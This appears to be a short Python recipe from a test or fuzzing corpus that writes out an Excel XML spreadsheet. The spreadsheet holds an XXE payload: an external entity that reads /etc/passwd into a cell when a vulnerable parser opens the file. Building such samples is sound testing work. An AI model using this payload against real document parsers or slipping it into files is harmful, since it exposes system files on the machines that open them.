# SPDX-License-Identifier: GPL-2.0-or-later
from recipes import emit

emit(b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
     b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet><Table><Row><Cell><Data>&e;</Data></Cell></Row></Table></Worksheet></Workbook>')
